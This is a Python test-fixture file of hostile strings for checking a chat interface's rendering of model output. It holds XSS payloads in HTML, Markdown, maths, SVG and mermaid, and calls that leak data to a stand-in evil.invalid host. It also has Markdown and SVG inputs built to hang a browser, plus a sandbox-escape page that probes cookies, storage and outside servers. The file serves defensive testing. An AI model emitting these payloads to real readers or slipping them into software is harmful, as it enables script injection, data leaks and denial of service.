"""Texts of a model that could harm its reader."""
# ruff: noqa: E501 (each text as it would be sent)

#: Scripts that run report here.
RUN = "window.broken = (window.broken || 0) + 1"

HOSTILE = {
    "script": f"<script>{RUN}</script>",
    "handler": f'<img src="x" onerror="{RUN}"><svg onload="{RUN}"></svg><details open ontoggle="{RUN}">x</details>',
    "markdown image": "![a cat](http://evil.invalid/cat.png) ![b](//evil.invalid/b.png)",
    "html image": '<img src="http://evil.invalid/i.png" srcset="http://evil.invalid/s.png 2x">',
    "media": '<video src="http://evil.invalid/v.mp4" poster="http://evil.invalid/p.png" autoplay></video><audio src="http://evil.invalid/a.mp3" autoplay></audio>',
    "frames": f'<iframe src="http://evil.invalid/"></iframe><iframe srcdoc="<script>parent.{RUN}</script>"></iframe><object data="http://evil.invalid/o"></object><embed src="http://evil.invalid/e">',
    "style": "<style>* { display: none } @import url(http://evil.invalid/s.css);</style><link rel=stylesheet href=http://evil.invalid/l.css><p style='position:fixed;inset:0;background:url(http://evil.invalid/b.png)'>over everything</p>",
    "script link": f"[click](javascript:{RUN}) [tab](java\tscript:{RUN}) <a href='javascript:{RUN}'>a</a> <javascript:{RUN}>",
    "data link": f"[click](data:text/html,<script>{RUN}</script>) [v](vbscript:x)",
    "form": f'<form action="http://evil.invalid/"><input name="key" autofocus onfocus="{RUN}"><button>Send</button></form>',
    "names": '<p id="app">a</p><a name="body" id="composer">b</a><form name="document"></form>',
    "meta": '<meta http-equiv="refresh" content="0;url=http://evil.invalid/"><base href="http://evil.invalid/">',
    "fence": f'```"><img src=x onerror="{RUN}">\ncode\n```\n\n``` js onload="{RUN}"\n</code></pre><script>{RUN}</script>\n```',
    "table": f'| <img src=x onerror="{RUN}"> | b |\n|---|---|\n| </td></table><script>{RUN}</script> | d |',
    "maths": rf"$\href{{javascript:{RUN}}}{{x}}$ $\includegraphics{{http://evil.invalid/m.png}}$ $\htmlId{{app}}{{y}}$ $\style{{position:fixed}}{{z}}$ $$\def\a{{\a\a}}\a$$",
    "mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "noscript": f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\"></noscript>",
    "template": f"<template><img src=x onerror='{RUN}'></template><slot></slot><dialog open>over</dialog>",
    "prefetch": '<link rel="prefetch" href="http://evil.invalid/f"><link rel="dns-prefetch" href="//evil.invalid">',
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#x3C;img src=x onerror={RUN}&#x3E;",
}

#: Texts that take a careless reader of Markdown very long, or very deep.
SLOW = {
    "quotes": "> " * 5_000 + "deep",
    "lists": "- " * 2_000 + "deep",
    "stars": "*_" * 20_000,
    "brackets": "[" * 20_000,
    "ticks": "`" * 20_001,
    "cells": "|" * 20_000 + "\n" + "|-" * 20_000,
    "dollars": "$" * 10_001,
    "tags": "<" * 20_000,
    "one word": "a" * 100_000,
    "maths": "\\(" * 5_000,
    "fences": "```\n" * 3_001,
}

_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9" '
_REUSED = "".join(f'<g id="a{n + 1}">' + f'<use href="#a{n}"/>' * 12 + "</g>" for n in range(9))

#: Drawings and diagrams that a model could write to harm who looks at them.
PICTURES = {
    "script": f'```svg\n{_SVG}onload="parent.{RUN}"><script>parent.{RUN}</script><rect width="9" height="9"/></svg>\n```',
    "images": f'```svg\n{_SVG}><image href="http://evil.invalid/i.png" width="9" height="9"/><use xlink:href="http://evil.invalid/u.svg#a"/></svg>\n```',
    "style": f'```svg\n{_SVG}><style>@import url(http://evil.invalid/s.css); rect {{ fill: url(http://evil.invalid/f.svg#a) }}</style><rect width="9" height="9"/></svg>\n```',
    "html": f'```svg\n{_SVG}><foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><img src="http://evil.invalid/h.png" onerror="parent.{RUN}"/><iframe src="http://evil.invalid/"/></body></foreignObject></svg>\n```',
    "stylesheet": f'```xml\n<?xml version="1.0" encoding="utf-7"?>\n{_SVG}><a href="javascript:{RUN}"><rect width="9" height="9"/></a></svg>\n```',
    "diagram": f'```mermaid\nflowchart LR\n  A["<img src=x onerror=\'parent.{RUN}\'>"] --> B["<script>parent.{RUN}</script>"]\n  click A "javascript:{RUN}"\n  click B call alert({RUN})\n```',
    "diagram's settings": f'```mermaid\n%%{{init: {{"securityLevel": "loose", "htmlLabels": true, "themeCSS": "@import url(http://evil.invalid/m.css)"}}}}%%\nflowchart LR\n  A["<img src=http://evil.invalid/d.png onerror=\'parent.{RUN}\'>"]\n```',
}

_MASKS = "".join(
    f'<mask id="a{n}">' + f'<rect width="9" height="9" mask="url(#a{n + 1})"/>' * 10 + "</mask>"
    for n in range(7)
)

_LARGE, _POINTS = '<rect width="900" height="900"/>' * 40, "L9 9" * 600

#: Drawings that would keep a browser busy for minutes.
HEAVY = {
    "masks": f'{_SVG}>{_MASKS}<rect width="9" height="9" mask="url(#a0)"/></svg>',
    "clips": f'{_SVG}>{_MASKS}<rect width="9" height="9" mask="url(#a0)"/></svg>'.replace(
        "mask=", "clip-path="
    ).replace("mask", "clipPath"),
    "markers": f'{_SVG}><marker id="a" markerWidth="900" markerHeight="900">{_LARGE}</marker><path d="M0 0{_POINTS}" marker-mid="url(#a)"/></svg>',
    "reused parts": f'{_SVG}><defs><rect id="a0" width="1" height="1"/>{_REUSED}</defs><use href="#a9"/></svg>',
    "entities": '<!DOCTYPE svg [<!ENTITY a "<use/>">]>' + f"{_SVG}>&a;</svg>",
    "another prefix": f'{_SVG} xmlns:s="http://www.w3.org/2000/svg"><defs><rect id="a0" width="1" height="1"/>{_REUSED.replace("<use", "<s:use")}</defs></svg>',
    "a drawing within": f'{_SVG}><image href="data:image/svg+xml;base64,AAAA"/></svg>',
}

#: A page that tries all ways out of its sandbox, and logs what it got. ELSEWHERE is another server.
ESCAPE = """<!doctype html><p>A page.</p>
<img src="http://ELSEWHERE/i.png"><link rel="stylesheet" href="http://ELSEWHERE/s.css"><script src="http://ELSEWHERE/s.js"></script>
<iframe src="http://ELSEWHERE/frame"></iframe><video src="http://ELSEWHERE/v.mp4" autoplay></video>
<style>@import url(http://ELSEWHERE/i.css); p { background: url(http://ELSEWHERE/b.png) }</style>
<script>
const got = {};
const attempt = async (name, what) => {
  try { got[name] = String(await what()).slice(0, 60); } catch (error) { got[name] = "refused"; }
};
(async () => {
  await attempt("parent", () => parent.document.title);
  await attempt("top", () => { top.location = "http://ELSEWHERE/top"; });
  await attempt("storage", () => localStorage.length);
  await attempt("database", () => new Promise((yes, no) => { const to = indexedDB.open("x"); to.onsuccess = yes; to.onerror = no; }));
  await attempt("cookie", () => document.cookie);
  await attempt("server", () => fetch("/v1/models"));
  await attempt("elsewhere", () => fetch("http://ELSEWHERE/f"));
  await attempt("socket", () => new Promise((yes, no) => { const to = new WebSocket("ws://ELSEWHERE/"); to.onopen = yes; to.onerror = no; }));
  navigator.sendBeacon("http://ELSEWHERE/b"); // says that it is sent
  await attempt("popup", () => open("http://ELSEWHERE/p") ? "opened" : Promise.reject());
  await attempt("worker", () => new Promise((yes, no) => { const one = new Worker("data:text/javascript,postMessage(1)"); one.onmessage = yes; one.onerror = no; }));
  console.log(JSON.stringify(got));
  location = "http://ELSEWHERE/self";
})();
</script>"""
